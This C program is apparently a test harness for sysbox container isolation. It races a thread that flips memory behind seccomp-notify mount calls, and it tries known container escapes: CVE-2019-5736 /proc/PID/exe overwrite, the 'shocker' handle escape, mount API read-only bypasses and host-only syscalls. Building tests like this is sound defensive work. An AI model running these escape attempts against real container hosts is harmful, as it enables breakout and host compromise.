// An attacker's probe for the seccomp-notify race: one thread makes a trapped call whose pointer
// argument names something harmless, a second thread keeps flipping that memory to name something
// protected, hoping the kernel reads the flipped value after sysbox-mgr judged the harmless one.
// Each mode also runs a control: the same call on the protected thing with no flip, which must be
// refused (or, for new procfs mounts, come out protected).
//
//   race remount N SAFE TARGET   mount(MS_REMOUNT|MS_BIND) read-write: SAFE a read-only tmpfs of
//                                 the container's own, TARGET a read-only bind of a host directory
//   race umount N                umount2: a tmpfs of its own <-> /proc/meminfo (a virtual file)
//   race fstype N                mount -t tmpfs <-> -t proc on /m: a procfs without its covers?
//   race bind N                  a non-recursive bind of /tmp <-> /proc onto /m: bare /proc files?
//   race move N                  MS_MOVE of a tmpfs of its own <-> /proc/meminfo
//   race newapi 1 SAFE TARGET     no race: the new mount API against TARGET (mount_setattr
//                                 clearing read-only, an open_tree clone remounted, fsopen of a
//                                 procfs): each must fail and TARGET stay read-only
//   race hostonly 1               no race: module loading, kexec, swapoff, acct, iopl must fail
//   race handle 1 SAFE TARGET     no race: open_by_handle_at of TARGET's own handle must fail
//   race exe 1 PATH               no race: open every /proc/PID/exe for writing (CVE-2019-5736):
//                                 none may open
//
// Prints one line: "MODE tries=N done=A refused=R wins=W control=ok|FAILED"; exits 0 only when
// no try won and the control held. A win in remount mode also writes TARGET/escaped.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <dirent.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/mount.h>

#define PROC_MAGIC 0x9fa0
static char buf[256] __attribute__((aligned(64)));
static char names[2][256];
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    for (unsigned i = 0; !atomic_load_explicit(&stop, memory_order_relaxed); i++)
        memcpy(buf, names[i & 1], sizeof buf);
    return NULL;
}

static long magic(const char *p) {
    struct statfs s;
    return statfs(p, &s) == 0 ? (long)s.f_type : -1;
}

static int writable(const char *p) {
    struct statvfs s;
    return statvfs(p, &s) == 0 && !(s.f_flag & ST_RDONLY);
}

// A procfs at `dir` whose meminfo is the kernel's, not covered: what must never be had.
static int bare_proc(const char *dir) {
    char p[300];
    snprintf(p, sizeof p, "%s/meminfo", dir);
    return magic(dir) == PROC_MAGIC && magic(p) == PROC_MAGIC;
}

static void set(const char *a, const char *b) {
    memset(names, 0, sizeof names);
    snprintf(names[0], sizeof names[0], "%s", a);
    snprintf(names[1], sizeof names[1], "%s", b);
    memcpy(buf, names[0], sizeof buf);
}

// The new mount API, aimed at a read-only bind: every call must fail.
static int newapi(const char *target) {
    int escaped = 0;
    struct mount_attr a;
    memset(&a, 0, sizeof a);
    a.attr_clr = MOUNT_ATTR_RDONLY;
    if (syscall(SYS_mount_setattr, AT_FDCWD, target, 0, &a, sizeof a) == 0) { printf("mount_setattr cleared ro\n"); escaped++; }
    int t = (int)syscall(SYS_open_tree, AT_FDCWD, target, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (t >= 0) {
        printf("open_tree clone succeeded\n"); escaped++;
        if (syscall(SYS_mount_setattr, t, "", AT_EMPTY_PATH, &a, sizeof a) == 0) printf("clone made rw\n");
    }
    int fs = (int)syscall(SYS_fsopen, "proc", FSOPEN_CLOEXEC);
    if (fs >= 0) { printf("fsopen proc succeeded\n"); escaped++; }
    int pk = (int)syscall(SYS_fspick, AT_FDCWD, target, FSPICK_CLOEXEC);
    if (pk >= 0) { printf("fspick succeeded\n"); escaped++; }
    if (writable(target)) { printf("target writable\n"); escaped++; }
    printf("newapi escaped=%d\n", escaped);
    return escaped == 0 ? 0 : 1;
}

// Every runtime or helper binary a process here can reach through /proc/PID/exe: none may be
// opened for writing, now or later (CVE-2019-5736 kept an O_PATH fd on runc's exe and reopened it
// for writing once runc had exited and the binary was no longer busy).
static int exes(void) {
    int opened = 0, tried = 0, kept[4096], nkept = 0;
    for (int round = 0; round < 200; round++) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            char p[300];
            snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
            int fd = open(p, O_WRONLY);
            tried++;
            if (fd >= 0) { opened++; printf("opened %s for writing\n", p); close(fd); }
            int path = open(p, O_PATH);
            if (path >= 0 && nkept < 4096) kept[nkept++] = path; else if (path >= 0) close(path);
        }
        if (d) closedir(d);
        usleep(5000);
    }
    // Later, with the processes gone: reopen every kept exe for writing.
    for (int i = 0; i < nkept; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", kept[i]);
        int fd = open(p, O_WRONLY);
        tried++;
        if (fd >= 0) { opened++; printf("reopened %s for writing\n", p); close(fd); }
        close(kept[i]);
    }
    printf("exe tried=%d kept=%d opened=%d\n", tried, nkept, opened);
    return opened == 0 ? 0 : 1;
}

// Calls only the host's root may make: each must fail with EPERM, whatever the arguments.
static int hostonly(void) {
    int fd = open("/bin/busybox", O_RDONLY), bad = 0;
    struct { const char *name; long rc; } calls[] = {
        { "finit_module", syscall(SYS_finit_module, fd, "", 0) },
        { "kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0) },
        { "swapoff", syscall(SYS_swapoff, "/nonexistent") },
        { "acct", syscall(SYS_acct, "/tmp/acct") },
        { "iopl", syscall(SYS_iopl, 3) },
    };
    for (unsigned i = 0; i < sizeof calls / sizeof calls[0]; i++) {
        int e = calls[i].rc < 0 ? errno : 0;
        printf("%s=%s\n", calls[i].name, calls[i].rc < 0 ? strerror(e) : "ok");
        if (calls[i].rc >= 0) bad++;
    }
    printf("hostonly allowed=%d\n", bad);
    return bad == 0 ? 0 : 1;
}

// The "shocker" escape: open a file of the host filesystem by handle, from a bind of it.
static int handle(const char *target) {
    struct { struct file_handle h; unsigned char bytes[128]; } fh;
    int mount_id, opened = 0;
    fh.h.handle_bytes = sizeof fh.bytes;
    int named = name_to_handle_at(AT_FDCWD, target, &fh.h, &mount_id, 0) == 0;
    int dir = open(target, O_RDONLY | O_DIRECTORY);
    if (named && dir >= 0) {
        int fd = open_by_handle_at(dir, &fh.h, O_RDONLY);
        if (fd >= 0) { opened++; close(fd); }
    }
    printf("handle named=%d opened=%d\n", named, opened);
    return opened == 0 ? 0 : 1;
}

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: race MODE TRIES [SAFE TARGET]\n"); return 2; }
    const char *mode = argv[1];
    int tries = atoi(argv[2]);
    const char *safe = argc > 3 ? argv[3] : "/safe", *target = argc > 4 ? argv[4] : "/x";
    if (!strcmp(mode, "newapi")) return newapi(target);
    if (!strcmp(mode, "exe")) return exes();
    if (!strcmp(mode, "handle")) return handle(target);
    if (!strcmp(mode, "hostonly")) return hostonly();
    int done = 0, refused = 0, wins = 0, control = 0;
    mkdir("/m", 0755);
    mkdir("/m2", 0755);
    mkdir(safe, 0755);
    if (!strcmp(mode, "remount")) {
        mount("t", safe, "tmpfs", MS_RDONLY, NULL);
        control = mount("none", target, NULL, MS_REMOUNT | MS_BIND, NULL) < 0 && errno == EPERM && !writable(target);
        set(safe, target);
    } else if (!strcmp(mode, "umount")) {
        control = umount2("/proc/meminfo", 0) < 0 && magic("/proc/meminfo") != PROC_MAGIC;
        mount("t", safe, "tmpfs", 0, NULL);
        set(safe, "/proc/meminfo");
    } else if (!strcmp(mode, "fstype")) {
        control = mount("p", "/m", "proc", 0, NULL) == 0 && !bare_proc("/m") && magic("/m") == PROC_MAGIC;
        umount2("/m", MNT_DETACH);
        set("tmpfs", "proc");
    } else if (!strcmp(mode, "bind")) {
        control = mount("/proc", "/m", NULL, MS_BIND, NULL) == 0 && !bare_proc("/m") && magic("/m") == PROC_MAGIC;
        umount2("/m", MNT_DETACH);
        set("/tmp", "/proc");
    } else if (!strcmp(mode, "move")) {
        control = mount("/proc/meminfo", "/m2", NULL, MS_MOVE, NULL) < 0 && magic("/proc/meminfo") != PROC_MAGIC;
        mount("t", safe, "tmpfs", 0, NULL);
        set(safe, "/proc/meminfo");
    } else {
        fprintf(stderr, "race: unknown mode %s\n", mode);
        return 2;
    }
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    for (int i = 0; i < tries; i++) {
        int r = -1;
        if (!strcmp(mode, "remount")) {
            r = mount("none", buf, NULL, MS_REMOUNT | MS_BIND, NULL);
            if (writable(target)) {
                wins++;
                char p[300];
                snprintf(p, sizeof p, "%s/escaped", target);
                int fd = open(p, O_CREAT | O_WRONLY, 0644);
                if (fd >= 0) close(fd);
                mount("none", target, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY, NULL);
            }
            mount("none", safe, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY, NULL);
        } else if (!strcmp(mode, "umount")) {
            r = umount2(buf, 0);
            if (magic("/proc/meminfo") == PROC_MAGIC) wins++;
            if (r == 0 && magic(safe) != 0x01021994) mount("t", safe, "tmpfs", 0, NULL);
        } else if (!strcmp(mode, "fstype")) {
            r = mount("x", "/m", buf, 0, NULL);
            if (bare_proc("/m")) wins++;
            while (umount2("/m", MNT_DETACH) == 0) {}
        } else if (!strcmp(mode, "bind")) {
            r = mount(buf, "/m", NULL, MS_BIND, NULL);
            if (bare_proc("/m")) wins++;
            while (umount2("/m", MNT_DETACH) == 0) {}
        } else if (!strcmp(mode, "move")) {
            r = mount(buf, "/m2", NULL, MS_MOVE, NULL);
            if (magic("/proc/meminfo") == PROC_MAGIC) wins++;
            if (r == 0) {
                // Put back what moved: the tmpfs goes home, a moved cover is left where it is.
                if (mount("/m2", safe, NULL, MS_MOVE, NULL) < 0) umount2("/m2", MNT_DETACH);
            }
        }
        if (r == 0) done++; else refused++;
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("%s tries=%d done=%d refused=%d wins=%d control=%s\n", mode, tries, done, refused, wins, control ? "ok" : "FAILED");
    return wins == 0 && control ? 0 : 1;
}
